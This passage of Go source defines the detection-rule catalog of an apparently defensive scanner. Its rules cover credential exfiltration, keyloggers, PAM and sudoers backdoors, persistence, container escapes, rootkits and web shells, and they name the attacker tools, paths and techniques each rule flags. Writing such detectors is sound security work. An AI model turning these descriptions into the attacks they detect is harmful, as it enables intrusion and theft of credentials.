			Detail:      "A script whose data flow carries credential material (private keys, cloud, registry and Kubernetes credentials, /etc/shadow, shell history, the whole environment, a cloud metadata service's credentials, browsers' password, cookie and key stores) into something that sends it to a host off the machine: curl or wget posting or uploading, mail, netcat, /dev/tcp, scp, rsync, ftp, ICMP echo data, cloud storage uploads, or DNS lookups of names that carry it (dig, nslookup, host, drill, getent, ping)."},
		CatalogRule{ID: "STRATA-CT-002", Category: "credential-theft", Severity: "high", Description: "Script collecting credentials and sending data off the machine",
			Detail: "A shell script, or Python, Node.js, Perl or Ruby code, that both reads credential material (browsers' stores named with a browser's profile among them) and sends data to a host off the machine (DNS lookups of names built at run time among the ways), where the data flow between them cannot be followed."},
		CatalogRule{ID: "STRATA-CT-003", Category: "credential-theft", Severity: "high", Description: "Fake password prompt keeping the password typed",
			Detail: "A script (or Python getpass, or Perl reading STDIN after stty -echo) that asks for a password without echo after a prompt naming one, keeps or sends what is typed, and runs the real sudo, su, ssh or passwd behind it, prints a login failure so that it is typed again, or is kept as a hidden or temporary file or under su, sudo or ssh's name outside the system's directories."},
		CatalogRule{ID: "STRATA-CT-004", Category: "credential-theft", Severity: "high", Description: "Script putting a password catcher in front of a command in a shell start-up file",
			Detail: "A script writing into a shell rc or profile file an alias or function named after a command that asks for a password (sudo, su, ssh, passwd ...) that runs a program of its own or prompts silently itself."},
		CatalogRule{ID: "STRATA-CT-005", Category: "credential-theft", Severity: "medium", Severities: "high when kept in a hidden or temporary place", Description: "Script sweeping several credential stores at once",
			Detail: "A script (or Python, Node.js, Perl or Ruby code) that reads three or more unrelated kinds of credentials (private keys, cloud credential files, credential databases, shell history, the whole environment, a metadata service's credential endpoint) and sends nothing itself: a harvester whose output goes wherever it is run from."},
		CatalogRule{ID: "STRATA-PS-009", Category: "persistence", Severity: "high", Description: "udev rule that leaves a program running on device events",
			Detail: "A udev rule whose RUN program is put in the background (&), or handed to nohup, setsid, systemd-run, at or a daemonizer: udev runs RUN programs for a moment and kills what they leave behind, so detaching one is how a daemon is started, and restarted, on device events (T1546.017)."},
		CatalogRule{ID: "STRATA-CT-006", Category: "credential-theft", Severity: "high", Description: "Passwords captured from a process that handles them (traced, or its memory read)",
			Detail: "A script that attaches strace, ltrace, gdb or gcore to a process that handles passwords (sshd, ssh, sudo, su, login, passwd, a keyring, an FTP or VPN daemon: its pid from pgrep or pidof), runs such a program under a tracer (strace -e read ssh), puts an alias or function that does so in place of the command, or reads the process's /proc/PID/mem: the passwords typed or sent pass through what it records."},
		CatalogRule{ID: "STRATA-CT-007", Category: "credential-theft", Severity: "high", Description: "Keystrokes captured and kept or sent (keylogger)",
			Detail: "Code that listens to the keyboard (pynput or pyxhook listeners, the keyboard module's hooks, iohook and uiohook in Node.js, evdev or a read of /dev/input/event*) and writes what it hears to a file or sends it; logkeys started; xinput test or a read of an input device whose output goes to a file or the network (T1056.001)."},
		CatalogRule{ID: "STRATA-CT-008", Category: "credential-theft", Severity: "high", Description: "Script gathering credentials into an archive or a place aside (staging them for taking)",
			Detail: "A script that copies, archives or writes credential material into a file or directory that is no credential place itself and sends nothing: other users' private keys, cloud, Kubernetes or browser credentials read from the home directories, two or more kinds gathered into one place, keys or /etc/shadow kept in a hidden or temporary place, or a metadata service's role credentials, tokens or user-data kept under a hidden name (T1074.001, T1552)."},
		CatalogRule{ID: "STRATA-CT-009", Category: "credential-theft", Severity: "high", Description: "eBPF program source reading passwords or keystrokes",
			Detail: "The source of an eBPF program (libbpf C, C in a BCC or pyroute2 Python loader, a bpftrace script or one-liner, a Go loader) that puts a user-space probe on a function holding a password (PAM's pam_get_authtok, pam_get_item or pam_set_item with the authtok, sshd's auth_password, getpass, readpassphrase, crypt) and reads the traced process's memory, or reads PAM's authtok out of its handle; or that hooks read (the system call, its tracepoints, vfs_read, the terminal's n_tty_read), copies the buffer read out of the process and keeps to a login program's name (ssh, sshd, sudo, su, passwd ...) or to the standard input: a password sniffer or keylogger. Labelled malware (T1056, T1056.001)."},
		CatalogRule{ID: "STRATA-ES-001", Category: "escape", Severity: "high", Description: "Container escape to the host",
			Detail: "A script that makes the host's kernel run its program (a cgroup release_agent with notify_on_release, core_pattern, the uevent helper), starts a privileged or host-root container through the runtime's socket (docker -H, curl --unix-socket, ctr), joins pid 1's namespaces with nsenter, starts a pod in the node's namespaces or on its root with kubectl, or mounts the host's disk and enters or writes it (debugfs too)."},
		CatalogRule{ID: "STRATA-PS-001", Category: "persistence", Severity: "critical", Description: "Crontab that runs code it fetches or decodes",
			Detail: "A cron or at job whose command downloads or decodes code and runs it: it runs again on its schedule."},
		CatalogRule{ID: "STRATA-PS-002", Category: "persistence", Severity: "critical", Description: "Boot, login or hook script that runs code it fetches or decodes",
			Detail: "An rc script, shell profile, package hook, udev rule or other autostart place whose commands download or decode code and run it."},
		CatalogRule{ID: "STRATA-PS-003", Category: "persistence", Severity: "critical", Description: "systemd unit that runs code it fetches or decodes",
			Detail: "A systemd service or timer whose ExecStart downloads or decodes code and runs it."},
		CatalogRule{ID: "STRATA-PS-004", Category: "persistence", Severity: "high", Severities: "critical when the staged file is in the image and flagged or owned by no package",
			Description: "Shell start-up file runs a staged program",
			Detail:      "A profile, profile.d script or shell rc file whose commands, aliases or functions (an alias that shadows sudo, ls or ssh) run a program or script kept in /tmp, /var/tmp, /dev/shm, /run/user, /proc, a hidden directory or a world-writable directory of the image; a PATH that puts such a place before the system's directories, an LD_PRELOAD naming a library there."},
		CatalogRule{ID: "STRATA-PS-005", Category: "persistence", Severity: "high", Severities: "critical when the staged file is in the image and flagged or owned by no package",
			Description: "Scheduled job runs a staged program",
			Detail:      "A cron, anacron or at job (cron.d, crontab spools, cron.daily scripts) whose command runs a program or script kept where attackers stage files."},
		CatalogRule{ID: "STRATA-PS-006", Category: "persistence", Severity: "high", Severities: "critical when the staged file is in the image and flagged or owned by no package",
			Description: "systemd unit runs a staged program",
			Detail:      "A systemd service's Exec line runs, directly or through a shell, a program or script kept where attackers stage files."},
		CatalogRule{ID: "STRATA-PS-007", Category: "persistence", Severity: "high", Severities: "critical when the staged file is in the image and flagged or owned by no package",
			Description: "Boot, login or hook file runs a staged program",
			Detail:      "An rc or init script, motd script, udev RUN rule, XDG autostart entry, PAM pam_exec line, APT hook, sshd command, git hook or program named by git's configuration (core.fsmonitor, core.hooksPath ...) that runs a program or script kept where attackers stage files."},
		CatalogRule{ID: "STRATA-PS-008", Category: "persistence", Severity: "high", Severities: "critical when the staged file is in the image and flagged or owned by no package",
			Description: "Python start-up hook runs a staged program",
			Detail:      "A .pth file in a module directory whose import line runs a program kept where attackers stage files (os.system, subprocess, os.exec*), or that adds such a place to the module path: Python runs it at every start."},
		CatalogRule{ID: "STRATA-PE-001", Category: "persistence", Severity: "high", Severities: "critical for every user or a service account",
			Description: "sudoers gives root without a password",
			Detail:      "A sudoers rule (aliases resolved, tags carried as sudo carries them, Defaults !authenticate honoured) that lets a user or group other than root run any command, a shell or an interpreter as root without a password."},
		CatalogRule{ID: "STRATA-PE-002", Category: "persistence", Severity: "critical", Description: "PAM lets anyone authenticate without a password",
			Detail: "A PAM auth stack (includes and substacks followed) that succeeds for a user who is not root and gives a wrong password: pam_permit.so made sufficient, done, or the only module that decides."},
		CatalogRule{ID: "STRATA-PE-003", Category: "persistence", Severity: "high", Severities: "critical when the module is in a staging place, flagged, or owned by no package",
			Description: "PAM loads a module from outside the system's module directories",
			Detail:      "A PAM line naming its module by a path outside /lib/security, /usr/lib/security and the multiarch security directories."},
		CatalogRule{ID: "STRATA-PE-004", Category: "suid", Severity: "critical",
			Description: "Script gives a shell or interpreter the setuid bit",
			Detail:      "A script that runs chmod with a setuid mode (+s, u+s, 4755 ...) or install -m with one on a shell, an interpreter or a program that runs others (find, env, vim, awk ...), or on a copy of one it made with cp, mv or install: whoever runs the file gets a root shell."},
		CatalogRule{ID: "STRATA-PA-002", Category: "persistence", Severity: "high", Severities: "critical when the PAM file it edits is named",
			Description: "Script inserting an auth line into a PAM stack",
			Detail:      "A script whose sed, awk, perl or ed program, echo, printf or heredoc puts an auth line into /etc/pam.d or /etc/pam.conf that loads a module outside the module directories, a module no known package ships, a module named at run time, or pam_permit made sufficient."},
		CatalogRule{ID: "STRATA-PA-003", Category: "persistence", Severity: "critical",
			Description: "Script replacing a system authentication library or program",
			Detail:      "A script that downloads, compiles, copies or moves a file it brings onto pam_unix.so, libpam, a PAM module directory, or sshd, su, sudo, login or passwd in the system's program directories (a path found with find counts)."},
		CatalogRule{ID: "STRATA-PA-004", Category: "persistence", Severity: "high", Severities: "critical when the module is in the image and no package owns it, or flagged",
			Description: "PAM stack trusting an unknown module first",
			Detail:      "A PAM service whose first auth line makes sufficient (or done on success) a module no known package ships and that no package of the image owns; or a module under a name a package ships (pam_unix2, pam_krb5, pam_ldap ...) whose file is in the image while the image's package database, knowing its files, has no package holding it, or that is flagged itself."},
		CatalogRule{ID: "STRATA-PA-005", Category: "persistence", Severity: "high", Description: "Source of an authentication module or daemon that lets a constant password in",
			Detail: "C source or a patch (its added and context lines) of a password check (PAM's pam_sm_authenticate, _unix_verify_password or PAM_SUCCESS; OpenSSH's auth_password or sys_auth_passwd) in which a password variable is compared with a string literal and PAM_SUCCESS, return 1 or an authenticated flag follows within five lines: what a backdoored pam_unix or sshd is built from. Labelled malware and tamper."},
		CatalogRule{ID: "STRATA-MQ-001", Category: "tamper", Severity: "high",
			Description: "System program replaced by a script that runs a hidden copy",
			Detail:      "A shell script at /bin, /sbin, /usr/bin or /usr/sbin under the name of a program distributions compile (ps, ls, netstat, ss, top, lsof, find, who ...) that runs a hidden, renamed or staged copy, with the output filter (grep -v, sed /d, awk !/) it hides things with."},
		CatalogRule{ID: "STRATA-MQ-002", Category: "malware", Severity: "high", Severities: "miner when the program is a miner",
			Description: "Script putting a program at a system program's or daemon's path",
			Detail:      "A script that moves, copies, downloads or compiles a program it brings onto a daemon's or system program's path (sshd, crond, rsyslogd, ps ...) or names it after a kernel thread (kworker, kthreadd, ksoftirqd): masquerading."},
		CatalogRule{ID: "STRATA-MQ-003", Category: "persistence", Severity: "high",
			Description: "Script adding an alias or function that shadows a system command with a hidden program",
			Detail:      "A script writing into a start-up file an alias or a function that puts a program kept in a hidden or temporary place in front of ls, ps, sudo, su, ssh or another system command."},
		CatalogRule{ID: "STRATA-AF-001", Category: "tamper", Severity: "low", Severities: "high for a server page in a web root (label webshell); info for a whole log directory emptied, high for login records or a log edited selectively or every user's history wiped, beside other malicious behaviour of the same script, or when it sets a password and wipes both login records and history",
			Description: "Script wiping logs or shell history",
			Detail:      "A script that removes, shreds, truncates or empties (rm, shred, truncate -s 0, > file, cat /dev/null >, cp or ln /dev/null, dd of=) login records (wtmp, btmp, utmp, lastlog), system logs (auth.log, secure, messages, syslog) or shell history, clears or turns off the history (history -c, unset HISTFILE, HISTSIZE=0, set +o history), edits login records or a log selectively (sed -i or perl -i on one, utmpdump -r into one, a filtered copy moved or written back over one: high), wipes every user's history (find over /home deleting history files: high), or vacuums the journal; Python, Perl, Node.js or Ruby code that opens login records or a system log for writing, renames over one or writes one whole (a log cleaner)."},
		CatalogRule{ID: "STRATA-AF-002", Category: "persistence", Severity: "low", Severities: "high beside other malicious behaviour of the same script, or beside both login records and history wiped",
			Description: "Script setting a password without a prompt",
			Detail:      "chpasswd fed a user:password, passwd --stdin or passwd reading a pipe, usermod -p, an edit of /etc/shadow."},
		CatalogRule{ID: "STRATA-AF-003", Category: "persistence", Severity: "high",
			Description: "Script adding a second account with uid 0",
			Detail:      "A line with uid 0 for an account other than root written into /etc/passwd (echo, printf, heredoc, sed -i), or useradd or usermod -u 0 (-o)."},
		CatalogRule{ID: "STRATA-AF-004", Category: "timestomp", Severity: "low", Severities: "high for a file the script put into a system path (touched, or written while the clock is set) or given a system file's times, find running touch with a time over a system directory or the whole tree, a disk's inode times rewritten with debugfs, or beside other malicious behaviour of the same script",
			Description: "Script setting a file's times to hide when it was written (timestomping)",
			Detail:      "touch -d, -t, -r or --reference on a file in a system path (program, library and configuration directories, web roots) or giving a system file's times to a file the script wrote; find over / or a system directory running touch -r, -d or -t on every file it finds; debugfs set_inode_field of a time field; a file written into a system path while the script has set the clock (date -s, timedatectl set-time) or under faketime; os.utime, Perl's utime, fs.utimesSync or shutil.copystat on a system path in Python, Perl, Node.js or Ruby code. Builds dating their own outputs (touch -d @$SOURCE_DATE_EPOCH, touch -r between two of their files) are not read."},
		CatalogRule{ID: "STRATA-AF-005", Category: "tamper", Severity: "high", Description: "Line of an autostart file hidden from the terminal by a carriage return",
			Detail: "A line of a crontab, cron.d file, systemd unit, rc script or profile file in which a carriage return is followed by more text or padding before the line ends: cat and crontab -l print what follows over the command that runs. Labelled persistence."},
		CatalogRule{ID: "STRATA-SK-003", Category: "ssh-key", Severity: "high", Description: "Script writing a literal public key into authorized_keys",
			Detail: "A script that appends a public key it carries to an authorized_keys file."},
		CatalogRule{ID: "STRATA-LP-012", Category: "ld-preload", Severity: "high", Description: "Script writing a library into /etc/ld.so.preload",
			Detail: "A script that writes a library path into /etc/ld.so.preload."},
		CatalogRule{ID: "STRATA-MW-002", Category: "malware", Severity: "high", Description: "Download into a hidden or temporary place, then run",
			Detail: "A file downloaded into /dev/shm, /var/tmp, /tmp or a hidden name, then made executable and run."},
		CatalogRule{ID: "STRATA-MW-003", Category: "malware", Severity: "high", Severities: "critical for commands taken from DNS answers and run",
			Description: "Data carried out over DNS",
			Detail:      "Python, Perl, Ruby or Node.js code that looks up names built from encoded data (base32, base64, hex), through the variables, chunks and loop variables it passes: an exfiltration channel to a DNS server the sender controls. Code running what a TXT answer carries is a command channel over DNS."},
		CatalogRule{ID: "STRATA-EX-001", Category: "malware", Severity: "medium", Severities: "high from a hidden or temporary place or in a package's module or setup script, low quoted in documentation",
			Description: "Downloaded code run unverified", Detail: "curl | sh, wget -O- | bash, or a download then run, with no checksum or signature check."},
		CatalogRule{ID: "STRATA-EX-002", Category: "malware", Severity: "high", Description: "Encoded code decoded and run",
			Detail: "base64, base32, hex, rev, rot13, gzip or escaped text decoded and run by a shell or eval, over one or several layers of encoding."},
		CatalogRule{ID: "STRATA-SH-000", Category: "malware", Severity: "medium", Description: "Shell behaviour", Techniques: []string{"T1059.004"},
			Detail: "A shell behaviour the shell analyzer reports that no more particular rule names."},
	)
	table("binary",
		CatalogRule{ID: "STRATA-RS-021", Category: "reverse-shell", Severity: "high", Description: "Go, Rust or statically linked program that connects, starts a process and names a shell",
			Detail: "A Go, Rust (std::net and std::process linked, few crates) or statically linked executable whose code connects out, starts a process and names a shell: a compiled reverse shell."},
		CatalogRule{ID: "STRATA-LP-005", Category: "ld-preload", Severity: "high", Severities: "low to critical by what the library hooks and where it sits (see rules.md)",
			Description: "Shared library that hooks libc functions", Detail: "A shared library that defines libc functions (readdir, open, connect ...) and looks the real ones up with dlsym: an interposer, the shape of a userland rootkit."},
		CatalogRule{ID: "STRATA-LP-006", Category: "ld-preload", Severity: "high", Description: "Hooking library that keeps its strings XOR-encoded",
			Detail: "A libc-hooking library whose strings are XOR-encoded: hiding what it hooks or hides."},
		CatalogRule{ID: "STRATA-RK-001", Category: "malware", Severity: "critical", Description: "Kernel module rootkit (built or its source)",
			Detail: "A kernel module (ELF relocatable with .modinfo) that resolves unexported kernel symbols (kallsyms_lookup_name, also through a kprobe) or hooks kernel functions by ftrace and names what rootkits hook (the system call table, getdents, kill, the /proc/net listings); or module source that takes itself off the module list, writes the system call table or resolves symbols to hook those functions."},
		CatalogRule{ID: "STRATA-RK-002", Category: "malware", Severity: "high", Severities: "critical when its programs hook system calls or the directory listing",
			Description: "eBPF rootkit (object or source)",
			Detail:      "An eBPF object or source whose programs call bpf_probe_write_user or bpf_override_return (writing into processes' memory, forging kernel functions' results), or source that hooks getdents64's entry and exit and keeps the directory buffer's address."},
		CatalogRule{ID: "STRATA-ES-002", Category: "escape", Severity: "critical", Description: "Kernel module (built or its source) running what is written to it as root on the host",
			Detail: "A kernel module, an ELF relocatable with .modinfo or its C source, that creates a file or device user space writes to (proc_create, debugfs_create_file, misc_register, register_chrdev, cdev_add, a sysfs attribute's store), takes what is written (copy_from_user, simple_write_to_buffer, memdup_user, a store's buffer) and starts a user-mode process with call_usermodehelper through a shell's -c (/bin/sh, /bin/bash, busybox sh) or the line split into argv (argv_split): whoever writes the file runs commands as root in the host's namespaces. Labelled malware (T1611, T1547.006, T1059.004)."},
		CatalogRule{ID: "STRATA-PA-001", Category: "persistence", Severity: "critical", Severities: "high for a module that accepts any password, medium when a distribution package ships the module unchanged",
			Description: "PAM module whose authentication compares the password with a constant, writes it out, or lets a named user in without one",
			Detail:      "A shared object defining pam_sm_authenticate whose code (x86-64, read from its entry point and the functions it calls) takes the password from pam_get_authtok or pam_get_item(PAM_AUTHTOK) (or from a helper that fetches it) and compares it with a literal, with a buffer it fills with constants on its stack (an XOR-decoded master password) or with constant words inline, or with what it reads from a file it opens for reading (fscanf, fgets, fread, read, getline into a stack, global or allocated buffer; a master password kept in a file), or opens a file by a literal path for writing and writes after reading it, or passes it to syslog: a PAM backdoor or a credential logger; or that returns PAM_SUCCESS on every path after reading the password and hands it to nothing (high): a module that lets any password in; or that reads the user's name (pam_get_user, pam_get_item(PAM_USER)), compares it with a literal, a buffer of constants on its stack or byte by byte with a literal in a loop, and reads, asks for and checks no password: a module that lets a named user in."},
	)
	table("webshell",
		CatalogRule{ID: "STRATA-WS-101", Category: "webshell", Severity: "critical", Severities: "high for a Node.js web terminal", Description: "Request input runs a command",
			Detail: "Request input reaches a command runner (system, exec, Runtime.exec, Process.Start, WScript.Shell ...) by data flow, through decoders and assignments; a Node.js route that spawns an interactive shell (node-pty, child_process) and relays a socket into it (labelled reverse-shell)."},
		CatalogRule{ID: "STRATA-WS-102", Category: "webshell", Severity: "critical", Description: "Request input is evaluated as code",
			Detail: "Request input reaches eval, assert, create_function, a script engine or a class loader's code path."},
		CatalogRule{ID: "STRATA-WS-103", Category: "webshell", Severity: "critical", Description: "The request names the function that runs",
			Detail: "A function or callback named by request input is called ($_GET['f']($_GET['a']), call_user_func with a request-named callback)."},
		CatalogRule{ID: "STRATA-WS-104", Category: "webshell", Severity: "critical", Description: "Request bytes become code",
			Detail: "A class or assembly is defined from request bytes (defineClass, Assembly.Load)."},
		CatalogRule{ID: "STRATA-WS-105", Category: "webshell", Severity: "high", Severities: "critical for an uploaded file or the request body",
			Description: "A request-named or uploaded file is included", Detail: "include or require of a path the request controls from its start, an uploaded file, php://input or a data: URL."},
		CatalogRule{ID: "STRATA-WS-106", Category: "webshell", Severity: "medium", Severities: "high for a packed page in a web root or code rebuilt from an alphabet", Description: "Page evaluates code it decoded from a constant",
			Detail: "A page evaluates code decoded from a constant and the decoded code shows no request flow: obfuscated code worth a look. High when a PHP page in a web root is nothing but that statement (eval(gzinflate(base64_decode('...')));), or evaluates what it decodes from its own file: a packed web shell; high too when the code is rebuilt character by character from an alphabet the page generates (range('a', 'z'), str_split, array_merge, indexed by a key of indexes)."},
		CatalogRule{ID: "STRATA-WS-107", Category: "webshell", Severity: "high", Description: "Request content written to a file the request names",
			Detail: "A dropper: request content written to a file whose path the request names from its start (move_uploaded_file or copy of an upload to a request-named path, file_put_contents($_POST['f'], $_POST['c']), fopen of a request path then fwrite of request input, chmod of a request path to a request mode: a file manager); PHP only."},
		CatalogRule{ID: "STRATA-WS-108", Category: "webshell", Severity: "medium", Description: "Request input handed to a function named at run time",
			Detail: "Request input reaches a call of a function whose name the code computes at run time and the analysis cannot resolve ($x = $k . $v; $x($_POST['x'])); dropped when a stronger finding explains the page."},
		CatalogRule{ID: "STRATA-WS-109", Category: "webshell", Severity: "high", Description: "PHP written without letters calls a function it computes",
			Detail: "Non-alphanumeric PHP: every variable named only with underscores, names such as _POST and assert built at run time by incrementing letters out of \"Array\", XOR or complement of punctuation, and a call of a function a variable holds. Where the names fold to constants the taint rules report the flow itself."},
		CatalogRule{ID: "STRATA-WS-110", Category: "webshell", Severity: "high", Description: "A code gateway hiding the names it calls",
			Detail: "A PHP function evaluates what it is passed (eval($b), or a runner reached through a hidden name) and the page spells the runners or decoders it calls character by character out of a decoded string ($z{28} . $z{29} ...): the dispatcher a packed web shell hands its payload and the keys of the decoders to run on it. Dropped when a request flow explains the page."},
		CatalogRule{ID: "STRATA-WS-111", Category: "webshell", Severity: "high", Description: "A page writes out a web shell",
			Detail: "A dropper: a server page that writes files holds, as a literal (joined from pieces), a server page that is itself a web shell (JScript eval(Request.Item[...], \"unsafe\"), Process.Start of request input, PHP eval($_POST[...])), analysed as the page it is written to (query.aspx, or the page's own kind). Dropped when the page itself holds a request flow."},
		CatalogRule{ID: "STRATA-WS-112", Category: "webshell", Severity: "high", Description: "An image file carries PHP code the server runs",
			Detail: "A GIF, PNG or JPEG whose metadata (a comment, a text chunk) holds a <?php page with code, a polyglot that passes an upload's image check: high in an upload directory, or where an .htaccess in its directory or a parent maps its extension to PHP (AddType, AddHandler, or SetHandler/ForceType for the file or every file), which the finding names; low where nothing runs it. Dropped when the page's code is itself a web shell finding."},
		CatalogRule{ID: "STRATA-WS-113", Category: "webshell", Severity: "high", Description: "A page writes out a script it carries and runs it",
			Detail: "A stager: a PHP page writes a script it carries (a literal, plain with a #! line or base64) to a file (/tmp/.bc, a hidden path) with file_put_contents, fopen/fwrite or a function of its own, and runs that file through exec, shell_exec, system, passthru, popen or a fallback chain of them; critical, labelled reverse-shell, when the script connects out and hands the connection a shell (a back-connect dropper)."},
		CatalogRule{ID: "STRATA-WS-114", Category: "webshell", Severity: "high", Description: "A page fetches a URL and writes it into the web directory",
			Detail: "A remote downloader: a PHP page fetches a URL the request names or a remote literal (fopen/fread, file_get_contents, copy, curl into a file) and writes what it gets below the page (a relative path, __DIR__, getcwd(), the document root), through variables and function parameters: high behind a password the request carries, in an upload directory or when what it writes is a server page (.php, .php5, .jsp...), medium otherwise."},
		CatalogRule{ID: "STRATA-WS-115", Category: "webshell", Severity: "high", Description: "A page mails what the server is to addresses it spells",
			Detail: "A recon beacon: a PHP page gathers server facts (php_uname, phpinfo() through the output buffer, the user, safe_mode/disable_functions, paths, the site) and hands them to mail() for a literal address; high in an upload directory or with three facts or more, medium otherwise."},
		CatalogRule{ID: "STRATA-WS-116", Category: "webshell", Severity: "high", Description: "A page disables a security plugin or timestomps itself",
			Detail: "A PHP page renames, removes or locks a WordPress security plugin's directory (Wordfence, Sucuri, iThemes, All In One WP Security...), or sets its own file's time (touch of __FILE__ or SCRIPT_FILENAME) to another file's (filemtime): labelled malware, and timestomp for the latter."},
		CatalogRule{ID: "STRATA-WS-117", Category: "webshell", Severity: "high", Description: "A page starts a cryptocurrency miner",
			Detail: "A PHP page runs (exec, shell_exec, system, passthru, popen, proc_open, backticks) a command line that starts a miner: a stratum URL, an option only a miner takes (--donate-level, --randomx-mode, --cpu-max-threads-hint, --coin...), a miner by its name with a pool or a configuration, a mining algorithm with a pool and an account, or a Monero wallet; the command is read through literals, concatenation, interpolation, sprintf with escapeshellarg and variables built up with .=. Labelled miner and malware.", Remediation: "Treat the image as compromised: remove the page and the miner it starts, rebuild from a trusted base and source, and find how the file got in."},
		CatalogRule{ID: "STRATA-WS-190", Category: "webshell", Severity: "info", Description: "Page not analysed",
			Detail: "A page over 8 MB, a page whose decoding a bound cut short, or an analysis that failed.", Remediation: "Look at the page by hand (strata export)."},
	)
	return out
}
